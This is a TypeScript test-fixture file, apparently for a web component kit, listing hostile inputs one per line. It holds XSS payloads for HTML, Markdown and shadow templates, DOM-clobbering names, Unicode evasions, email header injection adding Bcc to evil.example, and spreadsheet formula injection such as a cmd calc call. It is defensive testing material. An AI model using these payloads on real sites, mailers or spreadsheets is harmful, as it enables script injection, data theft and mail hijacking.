// Called by ../vectors.ts: hostile text that means something to a page, to Markdown, to mail and to eyes. One vector a line; `⏎` is a line break, `⟨9⟩` the character of that hex number.
export const text: Readonly<Record<string, string>> = {
  names: String.raw`
<p id=title name=title>x</p>
<img name=currentScript>
<img name=baseURI>
<img name=querySelector>
<form name=body></form>
<form id=x><input name=attributes></form>
<form><input name=innerHTML><input name=nodeName><input name=parentNode></form>
<a id=prosum><a id=prosum name=space href=//evil.example>x</a>
<a id=defaultView><a id=defaultView name=customElements>x</a>
<img id=trustedTypes>
<iframe name=customElements></iframe>
<p id=__proto__>x</p>
<p slot=title part=button exportparts=all>x</p>
<slot name=title></slot>
<p is=prosum-idea-box>x</p>
<button is=x-button>x</button>
<p itemscope itemprop=name>x</p>
<embed name=cookie>
__proto__
constructor
toString
@{constructor}
@{__proto__}
@{ana} @{nobody} @{"><img src=x onerror=prx(1)>}
{"__proto__":{"html":"<img src=x onerror=prx(1)>"}}
{"_$litType$":1,"strings":["<img src=x onerror=prx(1)>"],"values":[]}
{title} {n} {name} {0}
\${prx(1)} {{prx(1)}} <%= prx(1) %> #{prx(1)} [[prx(1)]]
<!--?lit$1$--> <!--lit-part--> <?lit$123$>
`,
  kit: String.raw`
<prosum-idea-box space=x server=//evil.example></prosum-idea-box>
<prosum-space server=https://evil.example token=x></prosum-space>
<prosum-account></prosum-account>
<prosum-gate></prosum-gate>
<prosum-rich-text text="[x](javascript:prx(1))"></prosum-rich-text>
<prosum-poll strings='{"cast":"<img src=x onerror=prx(1)>"}'></prosum-poll>
<prosum-discussion-thread seed=data:text/javascript,prx(1)></prosum-discussion-thread>
<prosum-member member=staff view=card></prosum-member>
<PROSUM-COUNT for=x></PROSUM-COUNT>
<x-anything onclick=prx(1)>x</x-anything>
`,
  templates: String.raw`
<template><img src=x onerror=prx(1)></template>
<p><template shadowrootmode=open><script>prx(1)</script></template></p>
<p><template shadowrootmode=open><style>*{display:none}</style><slot></slot></template></p>
<template shadowrootmode=closed><form><input></form></template>
<p><template shadowroot=open><img src=x onerror=prx(1)></template></p>
<template for=x><img src=x onerror=prx(1)></template>
`,
  markdown: String.raw`
[x](javascript:prx(1))
[x](JaVaScRiPt:prx(1))
[x](<javascript:prx(1)>)
[x]( javascript:prx(1))
[x](java⟨9⟩script:prx(1))
[x](javascript&colon;prx(1))
[x](&#106;avascript:prx(1))
[x](\j\avascript:prx(1))
[x](data:text/html,<script>prx(1)</script>)
[x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9cHJ4KDEpPg==)
[x](data:image/png;base64,AAAA)
[x](vbscript:prx(1))
[x](//evil.example)
[x](/v1/sign-out)
[x](#idea=1)
[x](?x=1)
[x](ftp://evil.example)
[x](mailto:a@x.example?bcc=all@x.example)
[x](https://x.example "onmouseover=prx(1)")
[x](https://x.example '"><img src=x onerror=prx(1)>')
[x](https://x.example/"onmouseover="prx(1))
[x](https://x.example/<script>prx(1)</script>)
["><img src=x onerror=prx(1)>](https://x.example)
[<svg onload=prx(1)>](https://x.example)
[![x](javascript:prx(1))](javascript:prx(1))
![x](javascript:prx(1))
![x](https://evil.example/pixel.gif)
![x" onerror="prx(1)](x)
![x](x "onerror=prx(1)")
<javascript:prx(1)>
<java&#115;cript:prx(1)>
<data:text/html,prx(1)>
<https://x.example/"onclick="prx(1)>
<https://x.example/<script>prx(1)</script>>
<a@x.example"onclick="prx(1)>
https://x.example/<img/src=x/onerror=prx(1)>
https://x.example/?q="><img src=x onerror=prx(1)>
[x][y]⏎⏎[y]: javascript:prx(1)
[x][z]⏎⏎[z]: https://x.example '"onmouseover="prx(1)'
[x][w]⏎⏎[w]: <data:text/html,<script>prx(1)</script>>
[__proto__]⏎⏎[__proto__]: javascript:prx(1)
[constructor][]⏎⏎[toString]: https://x.example
⟨60⟩⟨60⟩⟨60⟩html" onclick="prx(1)⏎<img src=x onerror=prx(1)>⏎⟨60⟩⟨60⟩⟨60⟩
~~~<img src=x onerror=prx(1)>⏎x⏎~~~
⟨60⟩<img src=x onerror=prx(1)>⟨60⟩
⟨60⟩⟨60⟩ ⟨60⟩"><svg onload=prx(1)> ⟨60⟩⟨60⟩
    <script>prx(1)</script>
| <img src=x onerror=prx(1)> | b |⏎|:--:|---|⏎| [x](javascript:prx(1)) | <svg/onload=prx(1)> |
| a |⏎|:-- style=x|⏎| b |
> <script>prx(1)</script>⏎> [x](javascript:prx(1))
- <form action=//evil.example>⏎- <input name=q>⏎- </form>
99999999. x⏎1. <img src=x onerror=prx(1)>
# <img src=x onerror=prx(1)> {#title .button}
x⏎===⏎<style>*{display:none}</style>
**<b onclick=prx(1)>x</b>**
~~<svg onload=prx(1)>~~ _<img src=x onerror=prx(1)>_
*x*{onclick=prx(1)}
&lt;img src=x onerror=prx(1)&gt;
&#60;script&#62;prx(1)&#60;/script&#62;
\<script\>prx(1)\</script\>
&amp;lt;script&amp;gt;prx(1)
<details><summary>x</summary>**x**</details>
<div markdown=1>⏎⏎**x**⏎⏎</div>
[x]: javascript:prx(1)
[^1]: <img src=x onerror=prx(1)>
$$\href{javascript:prx(1)}{x}$$
:::x{onclick=prx(1)}⏎x⏎:::
@[video](javascript:prx(1))
[x](https://x.example){target=_top onclick=prx(1)}
*[x]: <img src=x onerror=prx(1)>
`,
  unicode: String.raw`
⟨202e⟩)1(xrp:tpircsavaj
⟨2066⟩⟨202e⟩x⟨2069⟩<svg onload=prx(1)>
⟨200b⟩<⟨200b⟩script>prx(1)</script>
＜script＞prx(1)＜/script＞
﹤img src=x onerror=prx(1)﹥
⟨2039⟩script⟨203a⟩prx(1)⟨2039⟩/script⟨203a⟩
⟨ff1c⟩svg onload⟨ff1d⟩prx(1)⟨ff1e⟩
ʺ onmouseover=prx(1) ʺ
<ſcript>prx(1)</ſcript>
<ıframe src=javascript:prx(1)>
<img⟨2028⟩src=x⟨2029⟩onerror=prx(1)>
<img⟨a0⟩src=x⟨3000⟩onerror=prx(1)>
<svg⟨85⟩onload=prx(1)>
%3Cscript%3Eprx(1)%3C/script%3E
\u003cscript\u003eprx(1)
\x3cscript\x3eprx(1)
+ADw-script+AD4-prx(1)+ADw-/script+AD4-
¼script¾prx(1)¼/script¾
á̷̢̛̺̀͠<̷s̷v̷g̷ onload=prx(1)>
⟨feff⟩<script>prx(1)</script>
🏴⟨e0067⟩<svg onload=prx(1)>
سلام <svg onload=prx(1)> שלום
`,
  mail: String.raw`
x⟨d⟩⟨a⟩Bcc: all@evil.example
x⟨a⟩Bcc: all@evil.example
x⟨d⟩Cc: all@evil.example
x⟨2028⟩Bcc: all@evil.example
x⟨85⟩Bcc: all@evil.example
x%0d%0aBcc: all@evil.example
x⟨d⟩⟨a⟩⟨d⟩⟨a⟩<script>prx(1)</script>
x⟨d⟩⟨a⟩Content-Type: text/html⟨d⟩⟨a⟩⟨d⟩⟨a⟩<img src=x onerror=prx(1)>
x⟨a⟩Subject: other
=?utf-8?B?PHNjcmlwdD5wcngoMSk8L3NjcmlwdD4=?=
=?utf-8?Q?=0D=0ABcc:_all@evil.example?=
"all" <all@evil.example>
{code} {title} {code}
`,
  sheets: String.raw`
=1+1
=HYPERLINK("https://evil.example","x")
=cmd|'/c calc'!A1
+1+1
-1+1
@SUM(1)
⟨9⟩=1+1
⟨d⟩=1+1
"=1+1"
x";=1+1;"
`,
};
